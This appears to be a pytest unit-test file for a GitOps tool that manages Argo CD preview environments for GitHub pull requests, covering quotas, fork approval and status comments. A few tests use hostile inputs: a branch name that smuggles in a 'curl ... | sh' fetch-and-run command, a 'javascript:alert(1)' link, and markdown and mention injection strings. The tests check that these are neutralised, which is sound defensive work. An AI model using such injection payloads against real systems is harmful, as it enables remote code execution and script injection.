"""Environments of pull requests: what the stack creates, and which pull requests may keep one."""

import base64
import itertools
import json
import re
import shlex
from collections.abc import Mapping, Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from fnmatch import fnmatchcase
from pathlib import Path
from typing import Any, cast

import pytest
import yaml

from doks_gitops import arguments
from doks_gitops.github import PullRequest, Repository
from doks_gitops.policy.rules import RULES
from doks_gitops.policy.rules import Resource as Checked
from doks_gitops.promotion.cluster import Application, Cluster, Delivery
from doks_gitops.promotion.pull_requests import (
    CHART,
    REFRESH_SECONDS,
    Labeled,
    NoEnvironments,
    Review,
    chart_of_limits,
    check_repository,
    read_settings,
    refusals,
    report,
    review,
)
from doks_gitops.promotion.repository import WorkingTree
from doks_gitops.settings.pull_requests import PullRequests
from tests.unit.mocked import Run
from tests.unit.stackfiles import parsed
from tests.unit.test_program import CONFIG, platform

WEBHOOK = "https://argocd.example.com/applicationsets/api/webhook"
GITHUB = {
    "owner": "team",
    "repository": "monorepo",
    "token": "github_pat_1",
    "webhook": {"url": "https://argocd.example.com/api/webhook"},
}
SECTION: dict[str, Any] = {
    "application": "shop",
    "webhookUrl": WEBHOOK,
    "token": "github_pat_2",
    "quota": {"cpu": "500m", "pods": 9},
}
STACK = {**CONFIG, "doks-gitops:github": GITHUB, "doks-gitops:pullRequests": SECTION}
SETTINGS = PullRequests.model_validate({"application": "shop", "webhookUrl": WEBHOOK})
NOW = datetime(2026, 3, 1, 12, tzinfo=UTC)


@pytest.fixture
def result(monkeypatch: pytest.MonkeyPatch) -> Run:
    return platform(monkeypatch, config=STACK)


def spec(result: Run, kind: str, name: str) -> dict[str, Any]:
    content: dict[str, Any] = result.one(kind, f"pull-requests-{name}").inputs["spec"]
    return content


def test_a_stack_without_the_key_has_the_resources_that_it_had(
    monkeypatch: pytest.MonkeyPatch, result: Run
) -> None:
    without = {key: value for key, value in STACK.items() if not key.endswith("pullRequests")}
    before = platform(monkeypatch, config=without, previous=result).inputs
    # The mock engine registers the stack itself only in the first test.
    added = {urn for urn in result.inputs if urn not in before and "pulumi:Stack::" not in urn}
    assert all("pull-request" in urn.rpartition("::")[2] for urn in added)
    changed = {urn for urn in before if before[urn] != result.inputs[urn]}
    # The webhook secret restarts the ApplicationSet controller.
    assert {urn.rpartition("::")[2] for urn in changed} == {"argocd"}


def test_the_environment_follows_the_branch_and_never_a_commit(result: Run) -> None:
    template = spec(result, "ApplicationSet", "applications-set")["template"]
    [patch] = template["spec"]["source"]["kustomize"].pop("patches")
    assert patch["target"] == {"kind": "Namespace"}
    assert yaml.safe_load(patch["patch"])["$patch"] == "delete"
    assert template["metadata"]["name"] == "pr-{{.number}}"
    # GitHub hands out the commits of forks by their hashes, but a fork's branch is none here.
    assert template["spec"]["source"] == {
        "repoURL": "https://git.example.com/team/monorepo",
        "path": "kustomize/dev",
        "targetRevision": "refs/heads/{{.branch}}",
        "kustomize": {"images": ["shop=shop:2"], "namespace": "pr-{{.number}}"},
    }
    assert template["spec"]["destination"]["namespace"] == "pr-{{.number}}"
    assert template["spec"]["project"] == "dev-pull-requests"


def test_a_sync_that_fails_ends_soon_for_only_then_its_application_can_be_deleted(
    result: Run,
) -> None:
    for name in ("limits-set", "applications-set"):
        policy = spec(result, "ApplicationSet", name)["template"]["spec"]["syncPolicy"]
        longest = int(policy["retry"]["backoff"]["maxDuration"].removesuffix("s"))
        assert 0 < policy["retry"]["limit"] * longest <= 40


def test_a_namespace_that_comes_late_still_comes_before_the_application_s_last_retry(
    result: Run,
) -> None:
    last: dict[str, int] = {}
    for name in ("limits-set", "applications-set"):
        retry = spec(result, "ApplicationSet", name)["template"]["spec"]["syncPolicy"]["retry"]
        assert retry["backoff"]["factor"] == 1
        last[name] = retry["limit"] * int(retry["backoff"]["duration"].removesuffix("s"))
    # The labels are read again for the limits, and two waves are 2 s apart.
    assert last["limits-set"] + REFRESH_SECONDS + 2 < last["applications-set"]


def test_github_is_asked_with_a_token_that_is_a_secret_and_hardly_ever_by_polling(
    result: Run,
) -> None:
    for name in ("limits-set", "applications-set"):
        [generator] = spec(result, "ApplicationSet", name)["generators"]
        assert generator["pullRequest"] == {
            "github": {
                "owner": "team",
                "repo": "monorepo",
                "labels": ["preview"],
                "tokenRef": {"secretName": "pull-requests-token", "key": "token"},
            },
            "requeueAfterSeconds": 600,
        }
    token = result.one("Secret", "pull-requests-token")
    assert base64.b64decode(token.inputs["data"]["token"]) == b"github_pat_2"
    assert "data" in token.secret
    hook = result.one("RepositoryWebhook", "github-pull-request-webhook")
    assert hook.inputs["events"] == ["pull_request"]
    assert hook.inputs["configuration"]["url"] == WEBHOOK
    assert hook.inputs["configuration"]["secret"] == "a webhook secret"


def test_an_enterprise_server_is_named_as_its_events_name_it() -> None:
    url = "https://github.example.com/api/v3/"
    settings = parsed(
        argocd={"chart": {"version": "1.2.3"}, "webhookSecret": "a webhook secret"},
        applications={"shop": {"path": "kustomize/dev", "namespace": "shop-dev"}},
        github={**GITHUB, "baseUrl": url},
        pullRequests=SECTION,
    )
    args = arguments.pull_requests_args(settings, "argocd")
    assert args.api_url == "https://github.example.com/"


def test_a_new_webhook_secret_restarts_what_reads_it_only_once(
    monkeypatch: pytest.MonkeyPatch, result: Run
) -> None:
    def annotations(run: Run) -> dict[str, str]:
        release: dict[str, Any] = run.one("Release").inputs["values"]
        annotations: dict[str, str] = release["applicationSet"]["podAnnotations"]
        return annotations

    argocd = {**STACK["doks-gitops:argocd"], "webhookSecret": "another webhook secret"}
    other = platform(monkeypatch, config={**STACK, "doks-gitops:argocd": argocd})
    assert annotations(other) != annotations(result)
    assert annotations(platform(monkeypatch, config=STACK)) == annotations(result)


def test_the_controller_starts_when_it_can_read_the_secret_of_webhooks(result: Run) -> None:
    [variable] = result.one("Release").inputs["values"]["applicationSet"]["extraEnv"]
    reference = variable["valueFrom"]["secretKeyRef"]
    # Not optional: the container waits for the key.
    assert reference == {"name": "argocd-secret", "key": "server.secretkey"}


def test_the_branch_changes_neither_its_limits_nor_roles_nor_argocd(result: Run) -> None:
    project = spec(result, "AppProject", "project")
    assert project["sourceRepos"] == ["https://git.example.com/team/monorepo"]
    assert project["destinations"] == [
        {"server": "https://kubernetes.default.svc", "namespace": "pr-*"}
    ]
    assert project["clusterResourceWhitelist"] == []
    assert {kind["kind"] for kind in project["namespaceResourceBlacklist"]} == {
        *("ResourceQuota", "LimitRange", "Role", "RoleBinding"),
        *("Application", "ApplicationSet", "AppProject"),
    }
    limits = spec(result, "AppProject", "limits")
    assert limits["clusterResourceWhitelist"] == [
        {"group": "", "kind": "Namespace", "name": name}
        for name in ("pr-*", "doks-gitops-pull-requests")
    ]
    kinds = [kind["kind"] for kind in limits["namespaceResourceWhitelist"]]
    assert kinds == ["ResourceQuota", "LimitRange"]


def test_a_commit_to_the_chart_changes_neither_the_namespace_of_the_slots_nor_their_quota(
    result: Run,
) -> None:
    name = "doks-gitops-pull-requests"
    denied = spec(result, "AppProject", "limits")["clusterResourceBlacklist"]
    assert {"group": "", "kind": "Namespace", "name": name} in denied
    # The policy that lets a slot alone pass holds in it: shown in the e2e tests.
    labels = result.one("Namespace", "pull-requests-places").inputs["metadata"]["labels"]
    selector = spec(result, "ValidatingAdmissionPolicy", "owner-policy")["matchConstraints"]
    [selected] = selector["namespaceSelector"]["matchExpressions"]
    assert (selected["operator"], selected["key"] in labels) == ("Exists", True)


def test_images_have_the_commit_as_tag_once_a_label_says_that_they_exist(
    monkeypatch: pytest.MonkeyPatch, result: Run
) -> None:
    assert "templatePatch" not in spec(result, "ApplicationSet", "applications-set")
    section = {**SECTION, "images": ["frontend"]}
    built = platform(monkeypatch, config={**STACK, "doks-gitops:pullRequests": section})
    patch = spec(built, "ApplicationSet", "applications-set")["templatePatch"]
    patched = re.fullmatch(
        r'{{ if has "preview-images" \.labels }}(.*){{ else }}{}{{ end }}', patch
    )
    assert patched is not None
    images = ["shop=shop:2", "frontend=*:{{ .head_sha }}"]
    assert json.loads(patched[1]) == {"spec": {"source": {"kustomize": {"images": images}}}}
    assert "templatePatch" not in spec(built, "ApplicationSet", "limits-set")


def test_the_limits_are_the_stack_s_and_come_from_the_branch_of_the_stack(result: Run) -> None:
    source = spec(result, "ApplicationSet", "limits-set")["template"]["spec"]["source"]
    assert (source["path"], source["targetRevision"]) == ("argocd/pull-requests", "HEAD")
    values = source["helm"]["valuesObject"]
    assert values["hard"] == {
        "requests.cpu": "500m",
        "limits.memory": "4Gi",
        "pods": "9",
        "requests.storage": "0",
        "services.loadbalancers": "0",
        "services.nodeports": "0",
    }
    policy = spec(result, "ValidatingAdmissionPolicy", "quota-policy")
    assert json.loads(policy["variables"][0]["expression"]) == values["hard"]
    binding = spec(result, "ValidatingAdmissionPolicyBinding", "quota-binding")
    assert binding["paramRef"] == {"name": values["name"], "parameterNotFoundAction": "Deny"}
    # The policies are there before the first namespace.
    first = result.one("ApplicationSet", "pull-requests-limits-set")
    kinds = ("ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding", "ResourceQuota")
    for kind in kinds:
        for item in result.all(kind):
            assert item.urn in result.dependencies(first)


def test_kubernetes_counts_the_slots_of_the_stack(
    monkeypatch: pytest.MonkeyPatch, result: Run
) -> None:
    section = {**SECTION, "atOnce": 7}
    run = platform(monkeypatch, config={**STACK, "doks-gitops:pullRequests": section})
    quota = run.one("ResourceQuota").inputs
    assert quota["spec"]["hard"] == {"count/limitranges": "7"}
    source = spec(run, "ApplicationSet", "limits-set")["template"]["spec"]["source"]
    values = source["helm"]["valuesObject"]
    assert (
        values["slotsNamespace"]
        == quota["metadata"]["namespace"]
        == run.one("Namespace", "pull-requests-places").inputs["metadata"]["name"]
    )
    # Not in the namespaces of the pull requests, whose commits could take slots themselves.
    assert not fnmatchcase(values["slotsNamespace"], "pr-*")


def test_the_chart_takes_a_slot_before_it_makes_the_namespace() -> None:
    slot, namespace, *_ = (CHART / "templates" / "limits.yaml").read_text().split("---\n")
    assert "namespace: {{ .Values.slotsNamespace }}" in slot
    assert 'argocd.argoproj.io/sync-wave: "-1"' in slot
    assert "kind: Namespace" in namespace


def test_the_namespace_is_not_that_of_the_destination_which_comes_before_every_wave(
    result: Run,
) -> None:
    template = spec(result, "ApplicationSet", "limits-set")["template"]["spec"]
    assert template["source"]["helm"]["namespace"] == "pr-{{.number}}"
    assert template["destination"]["namespace"] == "doks-gitops-pull-requests"


def test_only_argocd_is_refused_finalizers_on_what_is_there_already(result: Run) -> None:
    """The e2e tests show what the policies refuse; in the sandbox, everybody is the admin."""
    *_, finalizers = spec(result, "ValidatingAdmissionPolicy", "owner-policy")["validations"]
    assert finalizers["expression"].endswith(
        "request.operation == 'UPDATE'"
        " && !('system:serviceaccounts:argocd' in request.userInfo.groups)"
    )


def test_the_policies_leave_alone_what_is_in_no_namespace(result: Run) -> None:
    for item in result.all("ValidatingAdmissionPolicy"):
        for rule in item.inputs["spec"]["matchConstraints"]["resourceRules"]:
            # Kubernetes matches everything else with any selector of namespaces.
            assert rule.get("scope") == "Namespaced" or "*" not in rule["resources"], item.name


def test_the_environments_are_gone_before_argocd_which_deletes_them(result: Run) -> None:
    applications = result.one("ApplicationSet", "pull-requests-applications-set")
    for kind, name in (("Release", None), ("AppProject", "pull-requests-project")):
        assert result.one(kind, name).urn in result.dependencies(applications)


def test_all_of_it_is_deleted_before_the_cluster_is_replaced(result: Run) -> None:
    cluster = result.one("KubernetesCluster").urn
    own = [item for item in result.of_packages("kubernetes") if "pull-requests" in item.name]
    assert len(own) == 13
    for item in own:
        assert cluster in item.input_dependencies["metadata"], item.name


def test_the_chart_has_every_value_that_the_stack_sets(result: Run) -> None:
    source = spec(result, "ApplicationSet", "limits-set")["template"]["spec"]["source"]
    template = (CHART / "templates" / "limits.yaml").read_text()
    for value in source["helm"]["valuesObject"]:
        assert f".Values.{value}" in template


@pytest.mark.parametrize("kind", ["AppProject", "ApplicationSet"])
def test_the_policies_allow_the_environments_outside_of_production(result: Run, kind: str) -> None:
    resources = [
        Checked(item.urn, item.type, item.inputs, environment=environment)
        for item in result.all(kind)
        if item.name.startswith("pull-requests")
        for environment in ("dev", "prod")
    ]
    violations = {
        item.environment
        for item in resources
        for rule in RULES
        if item.type in rule.types and [*rule.violations(item)]
    }
    assert violations == ({"prod"} if kind == "AppProject" else set())


def pull(
    number: int, *, fork: str | None = None, hours: float = 1, own: str | None = "a" * 40
) -> Labeled:
    labels = frozenset({"preview"})
    pull_request = PullRequest(number, f"branch-{number}", "a" * 40, labels, fork, NOW)
    return Labeled(pull_request, NOW - timedelta(hours=hours), own)


def refused(
    *pull_requests: Labeled, limits: Sequence[Application] = (), at_once: int = 5
) -> dict[int, str]:
    settings = SETTINGS.model_copy(update={"at_once": at_once})
    return refusals(pull_requests, settings, NOW, {item.name: item for item in limits})


def test_a_pull_request_keeps_its_label_for_its_time_to_live() -> None:
    reasons = refused(pull(1, hours=24.1), pull(2, hours=23.9))
    assert [*reasons] == [1]
    assert "24 hours" in reasons[1]


NO_SLOT = (
    'one or more objects failed to apply, reason: limitranges "pr-3" is forbidden: exceeded quota:'
    " doks-gitops-pull-requests, requested: count/limitranges=1, used: count/limitranges=2,"
    " limited: count/limitranges=2"
)


def limits(number: int, **changes: Any) -> Application:
    return application(name=f"pr-{number}-limits", **changes)


def test_who_gets_a_slot_is_what_kubernetes_says_and_not_who_has_the_label_first() -> None:
    missing = {"sync": "OutOfSync", "message": NO_SLOT}
    without = limits(1, phase="Failed", **missing)
    others = [limits(2), limits(3)]
    pull_requests = [pull(number) for number in (1, 2, 3)]
    reasons = refused(*pull_requests, limits=[without, *others], at_once=2)
    assert [*reasons] == [1]
    assert "there are 2 environments already" in reasons[1]
    # A slot may be free again before Argo CD has tried for the last time.
    tries = replace(without, phase="Running")
    assert refused(*pull_requests, limits=[tries, *others], at_once=2) == {}
    assert text(tries, application(sync="OutOfSync"), kept=pull(1)).startswith(
        "pending: `pr-1` waits for a slot and its limits."
    )


def test_an_environment_that_keeps_its_slot_while_it_is_removed_is_named_to_who_needs_one() -> None:
    without = limits(1, sync="OutOfSync", phase="Failed", message=NO_SLOT)
    stuck = [limits(8), limits(7), application(name="pr-7")]
    [reason] = refused(pull(1), pull(2), limits=[without, limits(2), *stuck]).values()
    assert "5 environments already (being removed: `pr-7`, `pr-8`). Set the label" in reason


def test_the_first_ones_keep_their_label_if_the_stack_is_given_fewer_slots() -> None:
    pull_requests = [pull(number) for number in (1, 2, 3, 4)]
    all_limits = [limits(number) for number in (1, 2, 3, 4)]
    assert [*refused(*pull_requests, limits=all_limits, at_once=2)] == [3, 4]
    # One that is refused for another reason takes no slot.
    first = pull(1, hours=25)
    assert [*refused(first, pull(2), pull(3), limits=all_limits, at_once=2)] == [1]


def test_a_fork_has_no_environment_unless_its_commit_is_in_a_branch_of_the_repository() -> None:
    unapproved, approved = pull(1, fork="stranger/monorepo", own=None), pull(2, fork="x/monorepo")
    reasons = refused(unapproved, approved)
    assert [*reasons] == [1]
    assert f"git push origin {'a' * 40}:refs/heads/branch-1\n" in reasons[1]


def test_a_commit_of_a_fork_is_never_to_be_pushed_to_a_branch_that_the_repository_has() -> None:
    """The fork's branch is often called main."""
    unapproved = pull(1, fork="stranger/monorepo", own="b" * 40)
    assert "git push" not in refused(unapproved)[1]


def test_a_branch_name_of_a_fork_is_no_command_for_the_shell_of_who_approves_it() -> None:
    unapproved = pull(1, fork="stranger/monorepo", own=None)
    hostile = replace(unapproved.pull_request, branch="a;curl${IFS}host|sh")
    reason = refused(replace(unapproved, pull_request=hostile))[1]
    [command] = re.findall(r"^\$ (git push .*)$", reason, re.MULTILINE)
    assert shlex.split(command)[-1] == f"{'a' * 40}:refs/heads/a;curl${{IFS}}host|sh"


def application(**changes: Any) -> Application:
    fields: dict[str, Any] = {
        "name": "pr-1",
        "namespace": "argocd",
        "project": "dev-pull-requests",
        "revision": "a" * 40,
        "images": (),
        "sync": "Synced",
        "health": "Healthy",
    }
    return Application(**{**fields, **changes})


def text(
    *applications: Application,
    kept: Labeled | None,
    reason: str | None = None,
    refused_pods: Sequence[str] = (),
) -> str:
    by_name = {item.name: item for item in applications}
    settings = SETTINGS.model_copy(update={"service": "frontend"})
    cluster = cast(Cluster, FakeCluster([], refused_pods=refused_pods))
    result = report(1, kept, reason, by_name, cluster, settings)
    return f"{'settled' if result.settled else 'pending'}: {result.text}"


def test_the_comment_tells_the_state_how_to_reach_it_and_when_it_ends() -> None:
    told = text(application(), kept=pull(1))
    assert told.startswith("settled: `pr-1` is **Healthy** at aaaaaaa (Synced).")
    assert "kubectl --context do-nyc1-demo --namespace pr-1 port-forward service/frontend" in told
    assert "at 2026-03-02 11:00 UTC" in told
    assert "<https://pr-1.test>" in text(application(urls=("https://pr-1.test",)), kept=pull(1))


def test_a_wait_for_the_limits_is_told_in_the_same_words_during_an_attempt_and_between_two() -> (
    None
):
    between = limits(1, sync="OutOfSync", phase="Running", message=NO_SLOT)
    during = replace(between, message="Retrying operation with latest revisions. Attempt #2")
    told = {
        text(first, *others, kept=pull(1))
        for first in (between, during)
        for others in ([], [application(revision=None)], [application(health="Missing")])
    }
    assert [item.partition(".")[0] for item in told] == [
        "pending: `pr-1` waits for a slot and its limits"
    ]
    without_chart = replace(during, errors=("Failed last sync attempt: no such chart",))
    assert "\n```text\nFailed last sync attempt: no such chart\n```\n" in text(
        without_chart, application(), kept=pull(1)
    )


def test_an_environment_of_an_older_commit_is_not_the_one_that_was_asked_for() -> None:
    told = text(application(revision="b" * 40, errors=("no such\npath",)), kept=pull(1))
    assert told.startswith("pending: `pr-1` waits for aaaaaaa.")
    assert "\n```text\nno such\npath\n```\n" in told
    assert text(application(health="Degraded"), kept=pull(1)).startswith("pending")


def test_an_overlay_that_asks_for_more_than_the_quota_is_told_so_with_the_amounts() -> None:
    exceeded = (
        "forbidden: exceeded quota: pull-request, requested: limits.memory=5Gi,pods=1, used:"
        " limits.memory=512Mi,pods=3, limited: limits.memory=4Gi,pods=3"
    )
    progressing = application(health="Progressing", message="successfully synced")
    told = text(progressing, kept=pull(1), refused_pods=[f'pods "a" is {exceeded}'])
    assert told.startswith("pending: `pr-1` is **Progressing**")
    assert "asks for more than the quota of an environment.** Ask for less" in told
    assert "- `limits.memory`: 5Gi more than the 512Mi that are in use, of 4Gi\n" in told
    assert "- `pods`: 1 more than the 3 that are in use, of 3\n" in told
    assert "forbidden" not in told
    # Services and claims are refused to Argo CD itself.
    failed = application(health="Missing", message=f'services "a" is {exceeded}. Retrying attempt')
    assert "- `pods`: 1 more" in text(failed, kept=pull(1))
    assert "more" not in text(application(message=exceeded), kept=pull(1))
    hostile = exceeded.replace("pods=1", "`@team`=<b>")
    assert "@team" not in text(progressing, kept=pull(1), refused_pods=[hostile])


def test_an_error_that_a_commit_has_written_stays_inside_its_block() -> None:
    error = "no such file: ```\n</details> @team\n- [x](https://a.test)"
    exceeded = "exceeded quota: pull-request, requested: pods=1, used: pods=3, limited: pods=3"
    told = text(
        application(health="Degraded", errors=(error,)), kept=pull(1), refused_pods=[exceeded]
    )
    assert f"\n\n````text\n{error}\n````\n\n" in told


def test_pods_that_are_refused_for_another_reason_are_told_once() -> None:
    baseline = 'pods "a" is forbidden: violates PodSecurity "baseline:latest": host namespaces'
    told = text(application(health="Progressing"), kept=pull(1), refused_pods=[baseline, baseline])
    assert told.count(baseline) == 1


def test_only_what_kubernetes_refuses_at_present_counts(monkeypatch: pytest.MonkeyPatch) -> None:
    items: list[dict[str, Any]] = []
    versions = itertools.count(9)
    for kind, uid, fails, *reasons in (
        ("ReplicaSet", "refused", True, "SuccessfulCreate", "FailedCreate", "FailedCreate"),
        ("ReplicaSet", "scaled-down", False, "FailedCreate"),
        ("StatefulSet", "refused-too", False, "SuccessfulCreate", "FailedCreate"),
        ("StatefulSet", "mended", False, "FailedCreate", "SuccessfulCreate"),
        ("", "deleted", False, "FailedCreate"),
    ):
        condition = {"type": "ReplicaFailure", "status": str(fails), "message": "the first one"}
        if kind:
            status = {"conditions": [condition]}
            items.append({"kind": kind, "metadata": {"uid": uid}, "status": status})
        items += [
            {
                "kind": "Event",
                "metadata": {"resourceVersion": str(next(versions))},
                "reason": reason,
                "message": f"{uid}, event {number}",
                "lastTimestamp": "2026-03-01T00:00:00Z",
                "involvedObject": {"uid": uid},
            }
            for number, reason in enumerate(reasons)
        ]
    monkeypatch.setattr(
        "doks_gitops.promotion.cluster._kubectl",
        lambda folder, *words: json.dumps({"items": items[::-1]}),
    )
    cluster = Cluster(Path(), Path(), "argocd", "do-nyc1-demo")
    assert cluster.refused_pods("pr-1") == ["refused, event 2", "refused-too, event 1"]


def test_what_kubernetes_may_leave_out_of_an_event_or_a_condition_is_not_needed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """https://kubernetes.io/docs/reference/kubernetes-api/cluster-resources/event-v1/"""
    condition = {"type": "ReplicaFailure", "status": "True"}
    events = [
        {"kind": "Event", "metadata": {"resourceVersion": "1"}, "involvedObject": who, **reason}
        for who in ({}, {"uid": "1"})
        for reason in ({}, {"reason": "FailedCreate"})
    ]
    items = [
        *events,
        {"kind": "ReplicaSet", "metadata": {"uid": "1"}, "status": {"conditions": [condition]}},
        {"kind": "Job", "metadata": {"uid": "2"}},
    ]
    monkeypatch.setattr(
        "doks_gitops.promotion.cluster._kubectl",
        lambda folder, *words: json.dumps({"items": items}),
    )
    assert Cluster(Path(), Path(), "argocd", "do-nyc1-demo").refused_pods("pr-1") == []


def test_a_link_of_a_pull_request_is_a_link_and_nothing_else() -> None:
    """Argo CD takes them from annotations, too."""
    urls = ("javascript:alert(1)", "https://a.test> @team <b>", "https://b.test")
    told = text(application(urls=urls), kept=pull(1))
    assert "<https://b.test>" in told
    assert "alert" not in told
    assert "@team" not in told


def test_an_environment_is_gone_only_when_its_limits_are_gone_too() -> None:
    limits = application(name="pr-1-limits")
    assert text(limits, kept=None).startswith("pending: The environment `pr-1` is being removed")
    assert text(kept=None) == "settled: The environment `pr-1` is gone."
    refused = text(limits, kept=None, reason="enough")
    assert refused == "pending: The environment is being removed: enough"
    assert text(kept=None, reason="enough") == "settled: There is no environment: enough"


class FakeRepository:
    """A repository on GitHub with the pull requests `open`."""

    name = "team/monorepo"

    def __init__(self, *pull_requests: Labeled) -> None:
        self._open = {item.pull_request.number: item for item in pull_requests}
        self.comments: list[tuple[int, str]] = []
        self.updates: list[int] = []
        self.removed: list[int] = []

    def open_pull_requests(self) -> list[PullRequest]:
        return [item.pull_request for item in self._open.values()]

    def labeled_at(self, number: int, label: str) -> datetime:
        return self._open[number].since

    def branch_commit(self, branch: str) -> str | None:
        return self._open[int(branch.rpartition("-")[2])].own_commit

    def remove_label(self, number: int, label: str) -> None:
        self.removed.append(number)

    def comment(self, number: int, name: str, text: str) -> None:
        self.comments.append((number, text))

    def update_comment(self, number: int, name: str, text: str) -> None:
        self.updates.append(number)


class FakeCluster:
    """A cluster with one more of `moments` each time that it is asked."""

    context = "do-nyc1-demo"

    def __init__(self, *moments: list[Application], refused_pods: Sequence[str] = ()) -> None:
        self._moments = [*moments]
        self._refused_pods = refused_pods
        self.errors: dict[str, str] = {}
        self.refreshed: list[Sequence[str]] = []

    def refresh(self, application_sets: Sequence[str]) -> None:
        self.refreshed.append(application_sets)

    def refused_pods(self, namespace: str) -> Sequence[str]:
        return self._refused_pods

    def delivery(self) -> Delivery:
        moment = self._moments.pop(0) if len(self._moments) > 1 else self._moments[0]
        return Delivery(moment, self.errors, ["dev-pull-requests-limits"])


def reviewed(
    repository: FakeRepository,
    cluster: FakeCluster,
    monkeypatch: pytest.MonkeyPatch,
    **options: Any,
) -> Review:
    monkeypatch.setattr("doks_gitops.promotion.pull_requests.POLL_SECONDS", 0)
    return review(
        cast(Repository, repository),
        cast(Cluster, cluster),
        SETTINGS,
        environment="dev",
        **options,
    )


def recent(number: int, **changes: Any) -> Labeled:
    item = pull(number, **changes)
    return Labeled(item.pull_request, datetime.now(UTC), item.own_commit)


def test_what_changes_is_told_once_until_the_environment_is_healthy(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    repository = FakeRepository(recent(1), recent(2))
    cluster = FakeCluster([], [], [application()])
    reviewed(repository, cluster, monkeypatch, number=1, wait=60)
    assert [number for number, _ in repository.comments] == [1, 1]
    assert "**Healthy**" in repository.comments[-1][1]


def test_every_refused_pull_request_is_told_why_it_loses_its_label_whichever_one_a_run_is_for(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for number in (1, None):
        repository = FakeRepository(recent(1), recent(2, fork="stranger/monorepo", own=None))
        reviewed(repository, FakeCluster([application()]), monkeypatch, number=number)
        assert repository.removed == [2]
        assert [told for told, _ in repository.comments] == [1, 2]
        assert "is not approved" in repository.comments[1][1]


def test_a_run_for_a_pull_request_waits_for_its_environment_alone(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    repository = FakeRepository(recent(1), pull(2, hours=1000))
    cluster = FakeCluster([application(), limits(1), limits(2)])
    result = reviewed(repository, cluster, monkeypatch, number=1, wait=60)
    assert result.settled
    assert [(item.number, item.settled) for item in result.reports] == [(1, True), (2, False)]


def test_a_pull_request_without_a_slot_loses_its_label_while_its_run_waits(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    repository = FakeRepository(recent(3))
    tries = limits(3, sync="OutOfSync", phase="Running", message=NO_SLOT)
    cluster = FakeCluster([tries], [replace(tries, phase="Failed")], [])
    result = reviewed(repository, cluster, monkeypatch, number=3, wait=60)
    assert repository.removed == [3]
    beginnings = [told.partition(".")[0].partition(":")[0] for _, told in repository.comments]
    assert beginnings == [
        "`pr-3` waits for a slot and its limits",
        "The environment is being removed",
        "There is no environment",
    ]
    assert result.reports[0].settled


@pytest.mark.parametrize(
    ("first", "times"),
    [
        ([], 1),
        ([application()], 1),
        ([application(health="Missing"), limits(1), limits(2)], 1),
        ([application(health="Missing"), limits(1)], 0),
    ],
)
def test_argocd_reads_the_labels_again_if_it_has_missed_one(
    first: list[Application], times: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Of two labels that are set at the same moment, or one that is taken away."""
    cluster = FakeCluster(first, first, [application(), limits(1)])
    reviewed(FakeRepository(recent(1)), cluster, monkeypatch, wait=60)
    assert cluster.refreshed == [["dev-pull-requests-limits"]] * times


def test_an_environment_that_nothing_asks_for_is_told_until_it_is_gone(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    cluster = FakeCluster([application(name="pr-7-limits"), application(name="dev-pr-8")])
    cluster.errors["dev-pull-requests"] = "401"
    result = reviewed(FakeRepository(), cluster, monkeypatch)
    assert [(item.number, item.settled) for item in result.reports] == [(7, False)]
    assert result.errors == {"dev-pull-requests": "401"}


def test_a_label_of_which_no_event_is_known_is_as_old_as_its_pull_request(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    repository = FakeRepository(recent(1))
    monkeypatch.setattr(repository, "labeled_at", lambda number, label: None)
    reviewed(repository, FakeCluster([]), monkeypatch)
    assert repository.removed == [1], "the pull request is older than the time to live"


def test_a_pull_request_without_an_environment_gets_no_new_comment(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    repository = FakeRepository()
    reviewed(repository, FakeCluster([]), monkeypatch, number=7, wait=60)
    assert (repository.comments, repository.updates) == ([], [7])


def stack_file(folder: Path, sections: Mapping[str, Any]) -> None:
    config = {f"doks-gitops:{key}": value for key, value in sections.items()}
    (folder / "Pulumi.dev.yaml").write_text(yaml.safe_dump({"config": config}))


def test_the_settings_are_read_without_the_token(tmp_path: Path) -> None:
    secret = {**SECTION, "token": {"secure": "v1:x"}}
    stack_file(tmp_path, {"pullRequests": secret, "github": GITHUB})
    settings, environment, repository = read_settings(tmp_path, "dev")
    assert (settings.token, settings.quota.pods) == (None, 9)
    assert (environment, repository) == ("dev", "team/monorepo")
    stack_file(tmp_path, {"github": GITHUB})
    with pytest.raises(NoEnvironments, match="has no environments"):
        read_settings(tmp_path, "dev")


def test_another_repository_than_the_stack_s_is_refused() -> None:
    with pytest.raises(NoEnvironments, match="GITHUB_REPOSITORY is team/monorepo"):
        check_repository(cast(Repository, FakeRepository()), "team/other")
    check_repository(cast(Repository, FakeRepository()), "Team/Monorepo")


def test_the_chart_is_written_once(tmp_path: Path) -> None:
    tree = WorkingTree(tmp_path)
    proposal = chart_of_limits(tree, SETTINGS)
    assert sorted(map(str, proposal.files)) == [
        "argocd/pull-requests/Chart.yaml",
        "argocd/pull-requests/templates/limits.yaml",
    ]
    for path, content in proposal.files.items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text(content)
    assert chart_of_limits(tree, SETTINGS).files == {}
